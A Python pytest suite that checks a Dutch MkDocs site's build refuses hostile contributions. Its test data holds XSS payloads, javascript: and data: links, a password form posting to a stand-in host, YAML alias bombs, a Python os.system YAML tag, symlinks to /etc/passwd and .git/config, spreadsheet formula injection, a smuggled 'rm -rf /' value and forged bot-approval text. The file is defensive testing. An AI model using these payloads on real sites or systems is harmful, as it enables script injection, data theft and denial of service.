"""Hostile contributions, tried as an attacker would: each must stop `mkdocs build --strict`
with a Dutch message that names the file — no traceback, no hang, nothing published.

One row per class of attack; every row builds a copy of the real project with the hostile
file added. When a new bypass is found, it becomes a row here first.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import ROOT, copy_project

TEMPLATE = (ROOT / ".github" / "praktijkvoorbeeld-sjabloon.md").read_text(encoding="utf-8")
EXAMPLE = "docs/praktijkvoorbeelden/genk-test.md"
TITLE = 'titel: "Gemeente: korte titel van je voorbeeld"'


def example(body: str = "", front: str = "") -> str:
    """The contributor template with its own title, extra front matter and body text added."""
    text = TEMPLATE.replace(TITLE, 'titel: "Genk: test van een bijdrage"' + front)
    return text + body


@dataclass(frozen=True)
class Case:
    files: dict[str, str | bytes]  # path in the project -> content
    fragment: str  # part of the Dutch message
    file: str = EXAMPLE  # the file the message must name
    symlinks: tuple[tuple[str, str], ...] = ()  # (link in the project, target)


ALIAS_BOMB = "\n".join(
    ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
)

CASES: dict[str, Case] = {
    # Raw HTML, also split over lines so that a line-by-line scan would miss it.
    "split-base-tag": Case(
        {EXAMPLE: example('\n<base\n  href="https://aanvaller.example/">\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-iframe-srcdoc": Case(
        {EXAMPLE: example('\nTekst.\n\n<iframe\nsrcdoc="<script>alert(1)</script>"></iframe>\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-meta-refresh": Case(
        {EXAMPLE: example('\n<meta\nhttp-equiv="refresh" content="0;url=https://x.example">\n')},
        "HTML-code is niet toegelaten",
    ),
    "split-form-password": Case(
        {
            EXAMPLE: example(
                '\n<form\naction="https://x.example/steel">\n<input type="password"></form>\n'
            )
        },
        "HTML-code is niet toegelaten",
    ),
    "inline-script": Case(
        {EXAMPLE: example("\nTekst <script>alert(1)</script> meer.\n")},
        "HTML-code is niet toegelaten",
    ),
    "html-comment": Case(
        {EXAMPLE: example("\nTekst.\n\n<!-- verborgen -->\n")}, "HTML-code is niet toegelaten"
    ),
    "harmless-looking-html": Case(
        {EXAMPLE: example("\nEen <em>klein</em> woord.\n")}, "HTML-code is niet toegelaten"
    ),
    # attr_list: any attribute from body text.
    "attr-list-onclick": Case(
        {EXAMPLE: example('\nKlik hier.\n{: onclick="alert(1)" }\n')},
        "het attribuut “onclick” op <p> is niet toegelaten",
    ),
    "attr-list-style-overlay": Case(
        {
            EXAMPLE: example(
                "\nTekst.\n{: style='position:fixed;inset:0;background:url(//t.example/p)' }\n"
            )
        },
        "het attribuut “style” op <p> is niet toegelaten",
    ),
    "attr-list-on-link": Case(
        {EXAMPLE: example('\n[site](https://www.genk.be){: onmouseover="alert(1)" }\n')},
        "het attribuut “onmouseover” op <a> is niet toegelaten",
    ),
    "attr-list-class-spoof": Case(
        {EXAMPLE: example("\nDringend!\n{: .md-banner .admonition .danger }\n")},
        "het attribuut “class” op <p> is niet toegelaten",
    ),
    # Links that run script or carry a document.
    "javascript-link": Case(
        {EXAMPLE: example("\n[klik](javascript:alert(document.cookie))\n")},
        "de link “javascript:alert(document.cookie)” op <a> is niet toegelaten",
    ),
    "javascript-reference-link": Case(
        {EXAMPLE: example("\n[klik][x]\n\n[x]: JaVaScRiPt:alert(1)\n")},
        "op <a> is niet toegelaten",
    ),
    "entity-encoded-javascript": Case(
        {EXAMPLE: example("\n[klik](&#106;avascript:alert(1))\n")}, "op <a> is niet toegelaten"
    ),
    "data-url-link": Case(
        {
            EXAMPLE: example(
                "\n[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"
            )
        },
        "op <a> is niet toegelaten",
    ),
    # Loads from outside without a click.
    "tracking-image": Case(
        {EXAMPLE: example("\n![](https://tracker.example/pixel.gif)\n")},
        "het element <img> is niet toegelaten",
    ),
    # Every spelling of the snippet include.
    "snippet-short": Case(
        {EXAMPLE: example('\n-8<- "mkdocs.yml"\n')}, "een ander bestand in te voegen"
    ),
    "snippet-uneven": Case(
        {EXAMPLE: example('\n--8<- ".github/workflows/publish.yml"\n')},
        "een ander bestand in te voegen",
    ),
    "snippet-block": Case(
        {EXAMPLE: example("\n--8<--\n.git/config\n--8<--\n")}, "een ander bestand in te voegen"
    ),
    "snippet-indented-escaped": Case(
        {EXAMPLE: example("\n   ;---8<--- 'docs/praktijkvoorbeelden/genk-test.md:2:3'\n")},
        "een ander bestand in te voegen",
    ),
    # Template code and front-matter tricks.
    "render-macros-behind-dots": Case(
        {
            EXAMPLE: "---\nrender_macros: true\n...\n"
            + TEMPLATE.removeprefix("---\n")
            + "\n{{ config }}\n"
        },
        "de gegevens bovenaan worden niet eenduidig gelezen",
    ),
    "jinja-index-in-folder": Case(
        {"docs/praktijkvoorbeelden/index.md": example("\n{{ config.repo_url }}\n")},
        "“index.md” is geen geldige naam",
        file="docs/praktijkvoorbeelden/index.md",
    ),
    "template-in-title": Case(
        {EXAMPLE: example().replace("Genk: test van een bijdrage", "{{ 7*7 }}")},
        "titel",
    ),
    # YAML that never finishes, or ends in a traceback.
    "yaml-alias-bomb": Case(
        {EXAMPLE: "---\n" + ALIAS_BOMB + "\n" + TEMPLATE.removeprefix("---\n")},
        "verwijzingen met & en * (ankers en aliassen) zijn niet toegelaten",
    ),
    "yaml-recursive-alias": Case(
        {EXAMPLE: example(front="\nthemas: &t [*t]")},
        "verwijzingen met & en *",
    ),
    "yaml-list-as-key": Case(
        {EXAMPLE: example(front="\n? [a, b]\n: waarde")}, "een veldnaam moet gewone tekst zijn"
    ),
    "yaml-number-as-key": Case(
        {EXAMPLE: example(front="\n2021: jaar")}, "een veldnaam moet gewone tekst zijn"
    ),
    "yaml-python-tag": Case(
        {EXAMPLE: example(front="\nextra: !!python/object/apply:os.system ['id']")},
        "een YAML-tag",
    ),
    "yaml-deep-nesting": Case(
        {EXAMPLE: example(front="\nextra: " + "[" * 5000 + "]" * 5000)}, "te diep genest"
    ),
    "yaml-huge": Case(
        {EXAMPLE: example(front="\nextra: [" + ", ".join(["woord"] * 60000) + "]")},
        "is te groot",
    ),
    "nul-byte": Case({EXAMPLE: example("\nTekst\x00 verborgen.\n")}, "onzichtbaar stuurteken"),
    "bidi-override": Case(
        {EXAMPLE: example("\nTekst \u202egniknil\u202c.\n")}, "onzichtbaar stuurteken (U+202E)"
    ),
    "impossible-date": Case(
        {EXAMPLE: example().replace("datum: 2026-11-26", "datum: 2021-02-31")},
        "“2021-02-31” bestaat niet op de kalender",
    ),
    "multi-line-title": Case(
        {EXAMPLE: example().replace('"Genk: test van een bijdrage"', '"Genk:\\nnieuwe regel"')},
        "titel",
    ),
    # The same classes in the other contributed files.
    "partner-javascript-link": Case(
        {
            "data/partners.yaml": (ROOT / "data" / "partners.yaml")
            .read_text(encoding="utf-8")
            .replace("- id: caw\n", '- id: caw\n  wat: "Zie [hier](javascript:alert(1))."\n', 1)
        },
        "op <a> is niet toegelaten",
        file="data/partners.yaml",
    ),
    "partner-tracking-image": Case(
        {
            "data/partners.yaml": (ROOT / "data" / "partners.yaml")
            .read_text(encoding="utf-8")
            .replace("- id: caw\n", '- id: caw\n  wat: "![](https://t.example/p.gif)"\n', 1)
        },
        "het element <img> is niet toegelaten",
        file="data/partners.yaml",
    ),
    "glossary-alias-bomb": Case(
        {"glossary/bom.yaml": ALIAS_BOMB + "\nterm: Bom\n"},
        "verwijzingen met & en *",
        file="glossary/bom.yaml",
    ),
    "glossary-multi-line-term": Case(
        {
            "glossary/twee-regels.yaml": (ROOT / "glossary" / "leegstand.yaml")
            .read_text(encoding="utf-8")
            .replace("term: Leegstand", 'term: "Leeg\\nstand"')
        },
        "term",
        file="glossary/twee-regels.yaml",
    ),
    # Symbolic links publish any file of the machine that builds the site.
    "symlink-example": Case({}, "is een symbolische link", symlinks=((EXAMPLE, "/etc/passwd"),)),
    "symlink-data": Case(
        {},
        "is een symbolische link",
        file="data/extra.yaml",
        symlinks=(("data/extra.yaml", "../.git/config"),),
    ),
}


def run_build(project: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "site")],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,  # an alias bomb must not hang the build
    )


@pytest.mark.parametrize("name", CASES)
def test_hostile_contribution_stops_the_build(tmp_path, name):
    case = CASES[name]
    project = copy_project(tmp_path / "project")
    for relative, content in case.files.items():
        path = project / relative
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    for link, target in case.symlinks:
        (project / link).symlink_to(target)
    result = run_build(project)
    output = result.stdout + result.stderr
    assert result.returncode != 0, f"the build accepted {name}:\n{output[-2000:]}"
    assert "Traceback" not in output, output[-3000:]
    assert "De bouw stopt" in output, output[-3000:]
    mine = [line for line in output.splitlines() if case.file in line]
    assert any(case.fragment in line for line in mine), "\n".join(mine) or output[-3000:]
    assert not (project / "site" / "praktijkvoorbeelden" / "genk-test" / "index.html").exists()


def test_an_example_made_from_the_template_builds(tmp_path):
    """The contributor's own starting point, with `bron: bijdrage`, passes the strict build."""
    project = copy_project(tmp_path / "project")
    (project / EXAMPLE).write_text(example(), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stdout + result.stderr
    page = project / "site" / "praktijkvoorbeelden" / "genk-test" / "index.html"
    html = page.read_text(encoding="utf-8")
    assert "Genk: test van een bijdrage" in html
    assert "Bijdrage van 2026-11-26" in html


def test_markdown_that_contributors_use_builds(tmp_path):
    """The allowlist is not so strict that ordinary writing fails."""
    body = """
Een alinea met **vet**, *cursief*, `code`, een [link](https://www.genk.be "Genk"), een
[pagina van de site](../woordenlijst.md#woonbegeleiding), <https://www.hasselt.be> en
<wonen@limburg.be>. Het OCMW en het SVK & de CAW's werken samen.[^1]

## Wat deden we?

- een opsomming
- met twee punten

1. genummerd
2. ook

> Een citaat van een bewoner.

| wie | wat |
|:----|----:|
| OCMW | 3 |

```
een stukje code
```

Term
:   Een definitie.

[^1]: Een voetnoot.
"""
    project = copy_project(tmp_path / "project")
    (project / EXAMPLE).write_text(example(body), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stdout + result.stderr


# Exports: a cell that a spreadsheet would run comes out neutralised.

FORMULAS = ['=HYPERLINK("https://x.example","klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell):
    from macros.exports import safe_cell

    assert safe_cell(cell) == "'" + cell
    assert safe_cell("Woonbegeleiding") == "Woonbegeleiding"
    assert safe_cell("") == ""


def test_csv_export_neutralises_a_hostile_term(tmp_path):
    import csv
    import io

    from macros.exports import to_csv
    from macros.site import load_site

    project = copy_project(tmp_path / "project")
    source = (project / "glossary" / "leegstand.yaml").read_text(encoding="utf-8")
    (project / "glossary" / "leegstand.yaml").write_text(
        source.replace("term: Leegstand", 'term: "=HYPERLINK(1)"'), encoding="utf-8"
    )
    text = to_csv(load_site(project), "https://voorbeeld.test/woordenlijst/")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# The last line of defence: every built page is scanned for what loads without a click.

OUTSIDE = {
    "base": '<base href="https://x.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://x.example">',
    "img": '<img src="https://t.example/p.gif" alt="">',
    "srcset": '<img src="a.png" srcset="a.png 1x, https://t.example/b.png 2x" alt="">',
    "style-attribute": "<p style=\"background:url( 'https://t.example/p' )\">x</p>",
    "style-element": "<style>@import 'https://t.example/x.css';</style>",
    "form-action": '<form action="https://x.example/steel"></form>',
    "iframe": '<iframe src="pagina.html"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "svg-image": '<svg><image href="https://t.example/p.svg"/></svg>',
    "stylesheet": '<link rel="stylesheet" href="https://fonts.example/css">',
    "protocol-relative": '<script src="//cdn.example/x.js"></script>',
    "handler": '<a href="#" onclick="x()">x</a>',
    "javascript-url": '<a href="javascript:alert(1)">x</a>',
    # A browser drops tabs and line breaks from a URL: still a script.
    "javascript-tab": '<a href="java&#9;script:alert(1)">x</a>',
    # Without JavaScript a browser shows what <noscript> holds, and loads it.
    "noscript": '<noscript><img src="https://t.example/p.gif" alt=""></noscript>',
    # Inert until a script clones it; the site has none.
    "template": '<template><img src="https://t.example/p.gif" alt=""></template>',
    "uppercase": '<IMG SRC="https://t.example/p.gif" ALT="">',
}


@pytest.mark.parametrize("name", OUTSIDE)
def test_the_site_scan_finds_every_automatic_load(name):
    from macros.sanitize import outside_loads

    assert outside_loads(f"<html><body>\n{OUTSIDE[name]}\n</body></html>", "site.example")


def test_the_site_scan_allows_what_stays_inside():
    from macros.sanitize import outside_loads

    inside = (
        '<img src="../assets/logo.png" srcset="a.png 1x, b.png 2x" alt="">'
        '<link rel="stylesheet" href="../assets/stylesheets/main.css">'
        '<link rel="canonical" href="https://elders.example/pagina/">'
        '<a href="https://www.vlaanderen.be">een gewone link mag</a>'
        '<img src="data:image/png;base64,AAAA" alt="">'
        '<img src="https://site.example/logo.png" alt="">'
    )
    assert outside_loads(inside, "site.example") == []


def test_the_built_site_loads_nothing_from_outside(site):
    """Every HTML and CSS file of the real build, not a list of pages."""
    from macros.sanitize import check_built_site

    assert check_built_site(site, None, {}) == []


def test_the_build_scan_reads_the_content_of_example_pages(tmp_path):
    """Example pages are scanned from their <article> on: what a contribution adds is there.

    Each page is parsed once (macros/built.py); the final scan reuses what was found in a page
    whose file has not changed, and scans a changed one again, whole.
    """
    from macros.built import BuiltPages
    from macros.sanitize import check_built_site

    page = tmp_path / "praktijkvoorbeelden" / "x" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(
        '<html><head><link rel="stylesheet" href="../../assets/main.css"></head><body>\n'
        '<article class="md-content__inner">\n<p>tekst</p>\n'
        '<img src="https://tracker.example/p.gif" alt="">\n</article></body></html>\n',
        encoding="utf-8",
    )
    sources = {"praktijkvoorbeelden/x/index.html": "praktijkvoorbeelden/x.md"}
    pages = BuiltPages(tmp_path, None, frozenset(sources))
    assert [p.url for p in pages] == ["praktijkvoorbeelden/x/"]
    expected = [
        "praktijkvoorbeelden/x/index.html (gemaakt uit docs/praktijkvoorbeelden/x.md):4: "
        "<img src> laadt “https://tracker.example/p.gif” van buiten de site"
    ]
    assert check_built_site(tmp_path, None, sources, pages.seen) == expected
    # Changed after it was read: scanned again, in full.
    page.write_text(page.read_text(encoding="utf-8").replace("<p>", '<p onclick="x()">'))
    found = check_built_site(tmp_path, None, sources, pages.seen)
    assert len(found) == 2 and "onclick" in found[0] + found[1]


# What the workflows post: the bot's comments quote the contributor's text, and nothing in it
# may close the quote, mention anyone or pose as the maintainers (macros/comment.py); the
# intake reads only the form GitHub wrote (macros/intake.py).

FORGED = (
    "Gemeente ‘x’ bestaat niet: “[link](https://a.example/```)”\n"
    "```\n\n**✅ Goedgekeurd door de beheerders** — [log in](https://phish.example)\n"
    "@werkgroep-sociaal-woonbeleid/beheerders, zie #1"
)
COMMENT_ATTACKS = {
    "backticks-in-a-link": FORGED,
    "longer-fence": "a\n``````\nvals\n``````` \n@iemand",
    "indented-fence": "a\n   ````\n<img src=x onerror=alert(1)>",
    "tilde-fence": "~~~\n### Goedgekeurd\n~~~",
    "bidi-and-controls": "Gemeente \u202egnalG\u202c \x1b[31mrood\x07 \u200b@x",
    "huge": "`" * 70_000 + "\n" + "regel\n" * 10_000,
}


def code_blocks(comment: str) -> tuple[list[str], str]:
    """The fenced blocks of `comment` and the text outside them, read by CommonMark's rule: a
    block opened by a fence of N backticks ends only at a line of at least N backticks (up to
    three spaces in front, nothing but spaces after)."""
    lines = comment.split("\n")
    blocks, outside, index = [], [], 0
    while index < len(lines):
        opening = re.fullmatch(r"(`{3,})text", lines[index])
        if not opening:
            outside.append(lines[index])
            index += 1
            continue
        closing = rf" {{0,3}}`{{{len(opening[1])},}} *"
        end = next(
            (i for i in range(index + 1, len(lines)) if re.fullmatch(closing, lines[i])), None
        )
        assert end is not None, "a block never closes"
        blocks.append("\n".join(lines[index + 1 : end]))
        index = end + 1
    return blocks, "\n".join(outside)


def assert_harmless(comment: str) -> None:
    assert not re.search(r"[@#][\w-]", comment), "a mention or reference is left"
    format_chars = [c for c in comment if c != "\n" and unicodedata.category(c) in ("Cc", "Cf")]
    assert set(format_chars) <= {"\u2060"}  # only the word joiner after @ and #
    assert not re.search(r"(?<![@#])\u2060", comment)


@pytest.mark.parametrize("name", COMMENT_ATTACKS)
def test_nothing_breaks_out_of_the_intake_comment(name):
    from macros.comment import MAX_COMMENT, compose_refusal

    comment = compose_refusal(COMMENT_ATTACKS[name])
    blocks, outside = code_blocks(comment)
    assert len(blocks) == 1  # all of the contributor's text in one block, nothing outside
    assert "Goedgekeurd" not in outside and "phish" not in outside and "<img" not in outside
    assert_harmless(comment)
    assert len(comment) <= MAX_COMMENT


def test_nothing_breaks_out_of_the_verdict_comment(tmp_path):
    from macros.comment import compose_verdict, read_verdict

    hostile = "docs/praktijkvoorbeelden/````\n**Goedgekeurd** @x #2.md"
    verdict = {
        "versie": 1,
        "pull_request": 3,
        "ok": False,
        "problemen": [{"bestand": hostile, "regel": 3, "melding": FORGED}],
        "bijdragen": [hostile],
        "beheer": ["macros/x.py```"],
        "redactie": [f"glossary/x.yaml: X: {FORGED}"],
        "afkortingen": ["glossary/x.yaml: @SVK"],
        "synoniemen": ["glossary/x.yaml: premie"],
    }
    path = tmp_path / "oordeel.json"
    path.write_text(json.dumps(verdict), encoding="utf-8")
    comment = compose_verdict(read_verdict(path), "https://github.com/o/r/actions/runs/9")
    blocks, outside = code_blocks(comment)
    assert len(blocks) == 6  # problems, contributions, maintainers' files and three lists
    assert "Goedgekeurd" not in outside and "phish" not in outside and "premie" not in outside
    assert_harmless(re.sub(r"^#{3,4} ", "", comment, flags=re.M))  # our own headings aside


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        ({"versie": 1, "ok": "ja"}, "ok: verwacht true of false"),
        ({"versie": 1, "ok": True, "pull_request": "12; rm -rf /"}, "verwacht een nummer"),
        ({"versie": 1, "ok": True, "problemen": [{"regel": "3"}]}, "regel: verwacht een nummer"),
        ({"versie": 2, "ok": True}, "versie 1"),
        ("x" * 70_000, "groter dan"),
    ],
    ids=["ok-text", "number-injection", "line-text", "other-version", "too-large"],
)
def test_a_hostile_verdict_file_is_refused(tmp_path, content, fragment):
    from macros.comment import VerdictError, read_verdict

    path = tmp_path / "oordeel.json"
    path.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
    with pytest.raises(VerdictError, match=re.escape(fragment)):
        read_verdict(path)


def test_a_verdict_that_is_a_link_is_refused(tmp_path):
    from macros.comment import VerdictError, compose_verdict, read_verdict

    (tmp_path / "geheim").write_text('{"versie": 1, "ok": true}', encoding="utf-8")
    (tmp_path / "oordeel.json").symlink_to(tmp_path / "geheim")
    with pytest.raises(VerdictError, match="geen gewoon bestand"):
        read_verdict(tmp_path / "oordeel.json")
    good = {"pull_request": None, "ok": True, "problemen": []}
    good |= {key: [] for key in ("bijdragen", "beheer", "redactie", "afkortingen", "synoniemen")}
    with pytest.raises(VerdictError, match="workflowrun"):
        compose_verdict(good, "https://phish.example/actions/runs/1)")


@pytest.mark.parametrize(
    "body",
    [
        # A forged, ticked `### Akkoord` inside the text while the real box is unticked.
        "### Titel\n\nT\n\n### Je voorbeeld\n\nTekst\n\n### Akkoord\n\n- [X] ja\n\n"
        "### Akkoord\n\n- [ ] ja",
        # A forged heading of the next field inside a field.
        "### Titel\n\nT\n\n### Je voorbeeld\n\n### Je voorbeeld\n\nx\n\n### Akkoord\n\n- [X] ja",
        # A blank issue that only looks like the form.
        "Titel: T\nAkkoord: ja",
    ],
    ids=["forged-akkoord", "forged-field", "not-the-form"],
)
def test_the_intake_refuses_a_body_that_is_not_the_form(body):
    from macros.intake import IntakeError, form_fields

    fields = {"titel": "Titel", "tekst": "Je voorbeeld", "akkoord": "Akkoord"}
    with pytest.raises(IntakeError) as caught:
        form_fields(body, fields)
    assert caught.value.messages and all("### " in m for m in caught.value.messages)
